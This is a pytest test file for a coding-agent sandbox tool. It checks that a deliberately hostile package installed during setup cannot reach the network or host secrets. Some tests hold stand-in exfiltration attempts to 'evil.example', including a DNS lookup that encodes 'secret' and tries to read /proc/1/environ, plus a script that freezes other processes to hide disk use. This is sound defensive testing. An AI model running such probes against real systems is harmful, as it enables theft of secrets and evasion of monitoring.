"""Setup with a way out, agent without one: real containers, registries on loopback, a package that calls home."""

from __future__ import annotations

import json
import os
import signal
import subprocess
from collections.abc import Callable, Generator, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from secrets import token_hex
from typing import Any, TypeVar

import pytest

from tests.program import Finished, Program, git, make_repository
from tests.servers.index import Canary, Index, canary, certificate, package_index, release
from tiny_backspace.errors import SandboxError, SetupFailed
from tiny_backspace.events import Egress, Event, SandboxAttested, SetupFinished, ThoughtDelta
from tiny_backspace.repo.git import Git
from tiny_backspace.repo.mirror import Base, mirror_of
from tiny_backspace.rooms import Rooms, wanted
from tiny_backspace.run import OpenSandbox
from tiny_backspace.sandbox import image, volumes
from tiny_backspace.sandbox.engine import Engine
from tiny_backspace.settings import Settings
from tiny_backspace.setup.shelf import SETUPS, Shelf
from tiny_backspace.statedir import owner_id, private_dir

CANARY = "hunter2-canary-of-the-host"
BACKEND = Path(__file__).with_name("hostile_backend.py").read_text()
PROJECT = '[build-system]\nrequires = []\nbuild-backend = "hostile_backend"\nbackend-path = ["."]\n'
SMALL: dict[str, Any] = {"memory": 1 << 30, "setup_registry": ("python",)}
T = TypeVar("T")


@dataclass
class Home:
    """Somebody with a repository, folders of their own, and an environment."""

    folder: Path
    engine: Engine
    environment: dict[str, str]
    repository: Path
    events: list[Event | ThoughtDelta] = field(default_factory=list)
    run: str = field(default_factory=lambda: token_hex(4))

    @property
    def state(self) -> Path:
        return private_dir(self.folder / "state" / "tiny-backspace")

    @property
    def cache(self) -> Path:
        return private_dir(self.folder / "cache" / "tiny-backspace")

    @property
    def owner(self) -> str:
        return owner_id(self.state)

    @property
    def volumes(self) -> dict[str, str]:
        return volumes.of_owner(self.engine, self.owner)

    @property
    def program(self) -> Program:
        return Program(self.folder, self.environment)

    def shelf(self, limit: int = 0) -> Shelf:
        return Shelf(self.engine, self.cache / SETUPS, self.owner, limit)

    @contextmanager
    def set_up(
        self, *commands: str, repository: Path | None = None, **settings: Any
    ) -> Generator[OpenSandbox]:
        """How sandboxes are opened after these commands ran on the repository's HEAD."""
        self.events.clear()
        where = repository or self.repository
        chosen = Settings.model_validate({**SMALL, "setup": commands, **settings})
        tool = Git(
            {"PATH": os.environ["PATH"]}, private_dir(self.folder / "git"), self.emit, ("file",)
        )
        base = Base(git(where, "rev-parse", "HEAD"), "main")
        mirror = mirror_of(self.cache, str(where), tool)
        mirror.fetch(str(where), base, self.emit)
        rooms = Rooms(chosen, wanted(chosen, self.environment), self.state, self.cache, self.run)
        with rooms.furnished(str(where), mirror, base, self.emit) as opened:
            yield opened

    def emit(self, event: Event | ThoughtDelta) -> None:
        self.events.append(event)

    def told(self, kind: type[T]) -> list[T]:
        return [event for event in self.events if isinstance(event, kind)]

    def done(self, *commands: str, **options: Any) -> SetupFinished:
        """Only set up; what was told of it."""
        with self.set_up(*commands, **options):
            (finished,) = self.told(SetupFinished)
        return finished

    def containers(self) -> list[str]:
        listed = self.engine.api.containers(
            all=True, filters={"label": f"tiny-backspace.owner={self.owner}"}
        )
        return [str(one["Names"][0]) for one in listed]


@pytest.fixture
def home(tmp_path: Path, engine: Engine) -> Iterator[Home]:
    repository = make_repository(
        tmp_path / "repo", {"README.md": "helo\n", "requirements.txt": "quiet\n", "a.py": "1\n"}
    )
    found = Home(tmp_path, engine, {"PATH": os.environ["PATH"]}, repository)
    yield found
    assert found.containers() == []
    for name in found.volumes:
        assert volumes.remove(engine, name)


def text(sandbox: Any, *argv: str) -> str:
    done = sandbox.exec(argv)
    return str((done.stdout + done.stderr).decode())


def quiet(name: str = "quiet") -> bytes:
    """A package that only installs itself."""
    return release(name, {"hostile_backend.py": _calm(name), "pyproject.toml": PROJECT})


def _calm(name: str) -> str:
    return BACKEND.replace("nosy", name).replace(
        'json.loads(Path(__file__).with_name("where.json").read_text())', "{}"
    ).replace("json.dumps(attempts())", '""')  # fmt: skip


# --- a package that calls home


@dataclass
class Nosy:
    """What the package found, and what came of it."""

    found: dict[str, str]
    egress: list[Egress]
    uses: Sequence[str]
    plain: Index
    tls: Index
    never: Canary
    asked_before: int
    agent: Callable[..., str]


@pytest.fixture(scope="module")
def nosy(tmp_path_factory: pytest.TempPathFactory, engine: Engine) -> Iterator[Nosy]:
    """The package is installed from the TLS index; the agent's container is there for the tests of this module."""
    folder = tmp_path_factory.mktemp("nosy")
    pem = certificate(folder)
    projects: dict[str, bytes] = {}
    with (
        canary() as never,
        package_index(projects, pem) as tls,
        package_index({"quiet": quiet()}) as plain,
    ):
        where = json.dumps({"tls": tls.port, "plain": plain.port, "never": never.port})
        files = {"hostile_backend.py": BACKEND, "pyproject.toml": PROJECT, "where.json": where}
        projects["nosy"] = release("nosy", files)
        environment = {
            "PATH": os.environ["PATH"],
            "HOST_TOKEN": CANARY,
            "PIP_INDEX_URL": tls.url,
            "PIP_EXTRA_INDEX_URL": plain.url,
            "SSL_CERT_FILE": str(pem),
        }
        repository = make_repository(folder / "repo", {"a.txt": "a\n"})
        home = Home(folder, engine, environment, repository)
        commands = ("pip install --no-deps nosy", "pip install --no-deps quiet")
        with home.set_up(*commands) as opened:
            told = home.told(Egress)
            uses = [each.use for each in home.told(SandboxAttested)]
            before = len(tls.asked) + len(plain.asked)
            with opened("agent", home.emit) as sandbox:
                where_found = "import nosy, pathlib; print(pathlib.Path(nosy.__file__).with_name('found.json').read_text())"
                found = json.loads(text(sandbox, "python", "-c", where_found))
                yield Nosy(
                    found, told, uses, plain, tls, never, before, lambda *a: text(sandbox, *a)
                )
        for name in home.volumes:
            assert volumes.remove(engine, name)


def test_what_is_installed_comes_from_the_users_registries_over_tls_and_in_plain_http(
    nosy: Nosy,
) -> None:
    assert "/simple/nosy/nosy-1.0.tar.gz" in nosy.tls.asked
    assert "/simple/quiet/quiet-1.0.tar.gz" in nosy.plain.asked
    allowed = {(each.host, each.port) for each in nosy.egress if each.decision == "allowed"}
    assert allowed == {("localhost", nosy.tls.port), ("localhost", nosy.plain.port)}
    assert nosy.uses == ["setup"]


def test_nothing_of_the_hosts_environment_is_in_there(nosy: Nosy) -> None:
    seen = nosy.found["environment"]
    assert "http://127.0.0.1:3128" in seen  # it did look
    assert CANARY not in json.dumps(nosy.found)
    assert "/proc/1/environ: Permission denied" in seen


@pytest.mark.parametrize(
    "attempt",
    ["direct to the world", "direct to the host", "direct to a port of the host's loopback",
     "names by getaddrinfo", "names from the engine", "names from the world", "the relay's end"],
)  # fmt: skip
def test_there_is_no_way_out_but_the_proxy(nosy: Nosy, attempt: str) -> None:
    assert nosy.found[attempt].startswith("no: ")
    assert "OPEN" not in nosy.found[attempt]


@pytest.mark.parametrize(
    ("attempt", "host", "said"),
    [
        ("tunnel to a host that is not allowed", "evil.example", "not allowed"),
        ("tunnel to a host that ends alike", "evil-localhost", "not allowed"),
        ("tunnel to another port", "localhost", "port"),
        ("tunnel to an address", "127.0.0.1", "an address"),
        ("tunnel to a number", "2130706433", "an address"),
        ("plain HTTP to another host", "evil.example", "not allowed"),
        ("plain HTTP to another port", "localhost", "port"),
        ("plain HTTP with a body", "localhost", "POST"),
    ],
)
def test_the_proxy_refuses_and_tells(nosy: Nosy, attempt: str, host: str, said: str) -> None:
    assert nosy.found[attempt].startswith("HTTP/1.1 403 ")
    assert [
        e for e in nosy.egress if e.decision == "denied" and e.host == host and said in e.reason
    ]


@pytest.mark.parametrize(
    ("attempt", "said"),
    [
        ("tunnel with another name in its hello", "names another host: evil.example"),
        ("tunnel without a name in its hello", "names no host"),
        ("tunnel in a tunnel", "not TLS"),
    ],
)
def test_a_tunnel_that_is_used_for_something_else_ends(nosy: Nosy, attempt: str, said: str) -> None:
    assert nosy.found[attempt] == "HTTP/1.1 200 Connection established\r\n\r\n|"
    assert [e for e in nosy.egress if e.decision == "denied" and said in e.reason]


def test_each_denial_is_told_once_and_none_came_to_a_port_that_was_not_allowed(nosy: Nosy) -> None:
    attempts = [name for name in nosy.found if name.startswith(("tunnel", "plain"))]
    assert len([e for e in nosy.egress if e.decision == "denied"]) == len(attempts) == 11
    assert nosy.never.visitors == 0


def test_the_agent_has_what_was_installed_read_only_and_nothing_of_the_way_out(nosy: Nosy) -> None:
    assert nosy.agent("python", "-c", "import nosy, quiet; print(nosy.HERE)") == "True\n"
    assert "Read-only file system" in nosy.agent("touch", "/opt/setup/venv/x")
    assert "Read-only file system" in nosy.agent("sh", "-c", "echo >/opt/setup/venv/bin/python")
    environment = nosy.agent("env").lower()
    assert "proxy" not in environment
    assert "localhost" not in environment
    assert "no-such" in nosy.agent("sh", "-c", "ls /opt/setup/.tmp 2>/dev/null || echo no-such")


def test_the_agent_has_no_network_and_asks_nobody_for_a_name(nosy: Nosy) -> None:
    """A32: not one query leaves; there is no resolver, none can be reached, and the proxy is gone."""
    assert nosy.agent("sh", "-c", "getent hosts c2VjcmV0.evil.example || echo none") == "none\n"
    assert nosy.agent("sh", "-c", "cat /etc/resolv.conf; ls /sys/class/net") == "lo\n"
    look = (
        "import socket\n"
        "for kind, place in [(2, ('127.0.0.11', 53)), (2, ('192.0.2.53', 53)), (1, ('127.0.0.1', 3128)), (1, ('192.0.2.1', 443))]:\n"
        "    s = socket.socket(socket.AF_INET, kind); s.settimeout(3)\n"
        "    try: s.connect(place); s.send(b'x'); s.recv(1); print('OPEN')\n"
        "    except OSError as error: print('closed')\n"
    )
    assert nosy.agent("python3", "-c", look).split() == ["closed"] * 4
    assert len(nosy.tls.asked) + len(nosy.plain.asked) == nosy.asked_before


# --- once, and for whom


@pytest.fixture
def index(home: Home) -> Iterator[Index]:
    with package_index({"quiet": quiet()}) as served:
        home.environment["PIP_INDEX_URL"] = served.url
        yield served


def test_what_was_set_up_is_there_the_next_time_without_a_container_for_it(
    home: Home, index: Index
) -> None:
    first = home.done("pip install --no-deps quiet")
    asked = len(index.asked)
    second = home.done("pip install --no-deps quiet")
    assert (first.cached, second.cached) == (False, True)
    assert (second.volume, second.size) == (first.volume, first.size)
    assert home.told(SandboxAttested) == []
    assert len(index.asked) == asked


@pytest.mark.parametrize(
    ("path", "again"), [("requirements.txt", True), ("deps/requirements-dev.txt", True),
                        ("a.py", False), ("listed.txt", True)],
)  # fmt: skip
def test_it_is_made_anew_when_a_file_of_its_dependencies_has_changed(
    home: Home, path: str, again: bool
) -> None:
    first = home.done("cat listed.txt || true")
    (home.repository / path).parent.mkdir(exist_ok=True)
    (home.repository / path).write_text("other\n")
    git(home.repository, "add", "-A")
    git(home.repository, "commit", "-q", "-m", "second")
    second = home.done("cat listed.txt || true")
    assert second.cached is not again
    assert (second.volume != first.volume) is again


def test_it_is_shared_with_no_other_repository_no_other_command_and_no_other_registry(
    home: Home, tmp_path: Path
) -> None:
    first = home.done("true")
    git(tmp_path, "clone", "-q", str(home.repository), "copy")
    others = [
        home.done("true", repository=tmp_path / "copy"),
        home.done("true # other"),
        home.done("true", setup_host=("files.example",)),
    ]
    assert len({first.volume, *(each.volume for each in others)}) == 4
    assert not any(each.cached for each in others)


def test_what_npm_put_into_the_work_tree_is_linked_there_and_none_of_the_change(home: Home) -> None:
    (home.repository / ".gitignore").write_text("node_modules/\n")
    git(home.repository, "add", "-A")
    git(home.repository, "commit", "-q", "-m", "ignore")
    made = "mkdir -p node_modules/left && echo 'module.exports = 7' >node_modules/left/index.js"
    with home.set_up(made) as opened, opened("agent", home.emit) as sandbox:
        sandbox.call(["git", "init", "-q"])
        assert text(sandbox, "node", "-p", "require('left')") == "7\n"
        assert text(sandbox, "git", "status", "--porcelain") == ""


def test_a_program_of_the_setups_is_the_agents_and_never_ours(home: Home) -> None:
    """The attestation, the file tools and what takes the change out are the image's own."""
    fake = "for n in git sh python3 timeout env; do printf '#!/bin/bash\necho fake' >$SETUP/bin/$n; done; chmod +x $SETUP/bin/*"
    gone = "rm -r /opt/setup/venv"
    with home.set_up(fake, gone) as opened, opened("agent", home.emit) as sandbox:
        assert sandbox.call(["git", "--version"]).stdout.startswith(b"git version")
        assert text(sandbox, "git", "--version") == "fake\n"
        sandbox.write("a.txt", b"x")
        assert sandbox.read("a.txt") == b"x"


# --- what goes wrong


def test_a_command_that_fails_ends_it_with_what_it_said_and_leaves_nothing(home: Home) -> None:
    with (
        pytest.raises(SetupFailed) as failed,
        home.set_up("echo before; false; echo after", "true"),
    ):
        raise AssertionError("it went on")
    assert "`echo before; false; echo after` ended with exit code 1\n  before" in str(failed.value)
    assert "after\n" not in str(failed.value)
    assert home.volumes == {}


def test_what_it_was_kept_from_is_the_hint(home: Home) -> None:
    fetch = "python3 -c \"import urllib.request as u; u.urlopen('https://files.example/x')\""
    with pytest.raises(SetupFailed) as failed, home.set_up(fetch):
        raise AssertionError("it went on")
    assert "kept from files.example" in str(failed.value.hint)
    assert "--setup-host" in str(failed.value.hint)


def test_it_ends_when_its_time_is_up(home: Home) -> None:
    with (
        pytest.raises(SetupFailed, match="took longer than 2 s"),
        home.set_up("sleep 60", setup_timeout=2),
    ):
        raise AssertionError("it went on")
    assert home.volumes == {}


STOPPING = """python3 - <<'END'
import os, pathlib, signal
if os.fork():
    with open('/opt/setup/big', 'wb') as file:
        for _ in range(60):
            file.write(os.urandom(1 << 20))
    signal.pause()
ours = {os.getpid(), os.getppid()}
while True:
    for path in pathlib.Path('/proc').glob('[0-9]*'):
        try:
            if int(path.name) not in ours and path.stat().st_uid == os.getuid():
                os.kill(int(path.name), signal.SIGSTOP)
        except OSError:
            pass
END"""


@pytest.mark.parametrize(
    ("fill", "said"),
    [
        ("head -c 60000000 /dev/zero >$SETUP/big; sleep 60", "has put .. MiB .* 50 MiB is the limit"),
        ("head -c 60000000 /dev/zero >$SETUP/big", "50 MiB is the limit"),
        (STOPPING, "hides how much"),
    ],
)  # fmt: skip
def test_it_ends_when_it_leaves_more_than_it_may(home: Home, fill: str, said: str) -> None:
    """Also while nobody who could look is left to run."""
    with pytest.raises(SetupFailed, match=said), home.set_up(fill, setup_disk=50 << 20):
        raise AssertionError("it went on")
    assert home.volumes == {}


def test_an_image_without_the_folder_is_said_to_have_none(home: Home, engine: Engine) -> None:
    tag = "tiny-backspace-test:no-setup"
    ours = image.name_of(engine.api)
    subprocess.run(
        ["docker", "build", "-q", "-t", tag, "-"], check=True, capture_output=True,
        input=f"FROM {ours}\nUSER 0\nRUN rmdir /opt/setup\nUSER 10000:10000\n".encode(),
    )  # fmt: skip
    try:
        with (
            pytest.raises(SandboxError, match="no folder /opt/setup") as refused,
            home.set_up("true", image=tag),
        ):
            raise AssertionError("it went on")
    finally:
        subprocess.run(["docker", "rmi", "-f", tag], check=True, capture_output=True)
    assert "--image" in str(refused.value.hint)


# --- what is kept, and for how long


def filled(home: Home, key: str, size: int) -> str:
    def make(volume: str) -> int:
        assert volume in home.volumes
        return size

    with home.shelf(1 << 40).setup(key, make, home.emit) as volume:
        return volume


def test_the_longest_unused_goes_first_and_one_in_use_never(home: Home) -> None:
    old, mid, new = (filled(home, key, 100) for key in ("a" * 20, "b" * 20, "c" * 20))
    os.utime(home.cache / SETUPS / ("c" * 20 + ".used"), (1, 1))
    assert filled(home, "c" * 20, 0) == new  # used again: it was there
    with home.shelf(1 << 40).setup("a" * 20, lambda _: 0, home.emit) as used:
        assert used == old
        assert home.shelf().trim(200) == 1
        assert set(home.volumes) == {old, new}
        assert home.shelf().trim(0) == 1
        assert set(home.volumes) == {old}
    assert mid not in home.volumes
    assert home.shelf().trim(0) == 1
    assert home.volumes == {}


def test_a_volume_that_somebody_removed_is_made_anew(home: Home) -> None:
    first = filled(home, "a" * 20, 1)
    assert volumes.remove(home.engine, first)
    assert filled(home, "a" * 20, 1) != first


@pytest.mark.parametrize("content", ["", "{}", "[]", '{"volume": 1}', "\0"])
def test_a_note_that_cannot_be_read_counts_for_nothing(home: Home, content: str) -> None:
    first = filled(home, "a" * 20, 1)
    (home.cache / SETUPS / ("a" * 20)).write_text(content)
    assert filled(home, "a" * 20, 1) != first
    assert first not in home.volumes


def lines(done: Finished) -> Sequence[dict[str, Any]]:
    return [each for each in done.lines if each["type"] in ("setup", "sandbox", "model_turn")]


def test_a_killed_setup_counts_for_nothing_and_the_next_run_does_it_again(
    home: Home, index: Index
) -> None:
    command = f"python3 -c \"import urllib.request as u; u.urlopen('http://localhost:{index.port}/gate')\""
    asked = ("run", str(home.repository), "replace 'helo' with 'hello' in README.md", "--agents", "dummy",
             "--setup", command, "--memory", "1g", "-o", "jsonl")  # fmt: skip
    killed = home.program.start(*asked)
    try:
        assert index.reached.wait(60)
        (half,) = home.volumes
    finally:
        killed.send_signal(signal.SIGKILL)
        killed.communicate()
    index.open.set()
    done = home.program.run(*asked)
    assert done.exit_code == 0, done.stderr
    (setup,) = done.of("setup")
    assert not setup["cached"]
    assert list(home.volumes) == [setup["volume"]]
    assert half != setup["volume"]
    order = [f"{each['type']} {each.get('use', '')}".strip() for each in lines(done)]
    assert order[:4] == ["sandbox setup", "setup", "sandbox agent", "model_turn"]
    assert home.program.run(*asked).of("setup")[0]["cached"]
    cleaned = home.program.run("clean")
    assert "1 setup" in cleaned.stderr
    assert home.volumes == {}


def test_an_interrupted_setup_leaves_nothing(home: Home, index: Index) -> None:
    gate = f"python3 -c \"import urllib.request as u; u.urlopen('http://localhost:{index.port}/gate')\""
    run = home.program.start(
        "run", str(home.repository), "do it", "--agents", "dummy", "--setup", gate, "--memory", "1g", "-o", "jsonl",
    )  # fmt: skip
    assert index.reached.wait(60)
    run.send_signal(signal.SIGINT)
    said, _ = run.communicate()
    assert run.returncode == 130, said
    assert json.loads(said.splitlines()[-1])["error"] == "interrupted"
    assert home.volumes == {}


def test_a_whole_run_verifies_with_what_was_installed(home: Home, index: Index) -> None:
    done = home.program.run(
        "run", str(home.repository), "replace 'helo' with 'hello' in README.md", "--agents", "dummy",
        "--setup", "pip install --no-deps -r requirements.txt", "--verify", "python -c 'import quiet'",
        "--memory", "1g", "-o", "jsonl",
    )  # fmt: skip
    assert done.exit_code == 0, done.stderr
    assert [(each["on"], each["ok"]) for each in done.of("verification")] == [
        ("base", True),
        ("change", True),
    ]
    assert {each["host"] for each in done.of("egress")} == {"localhost"}
    assert len(index.asked) == 2


def test_a_setup_of_the_settings_file_that_fails_ends_the_run_before_a_model_is_asked(
    home: Home,
) -> None:
    settings = home.folder / "config" / "tiny-backspace" / "config.toml"
    settings.parent.mkdir(parents=True)
    settings.write_text('[setup]\ncommands = ["exit 3"]\nregistry = []\n')
    done = home.program.run(
        "run", str(home.repository), "do it", "--agents", "dummy", "--memory", "1g", "-o", "jsonl"
    )
    assert done.exit_code == 4
    last = done.lines[-1]
    assert (last["error"], last["message"]) == (
        "setup_failed",
        "the setup failed: `exit 3` ended with exit code 3\n",
    )
    assert done.of("model_turn") == []
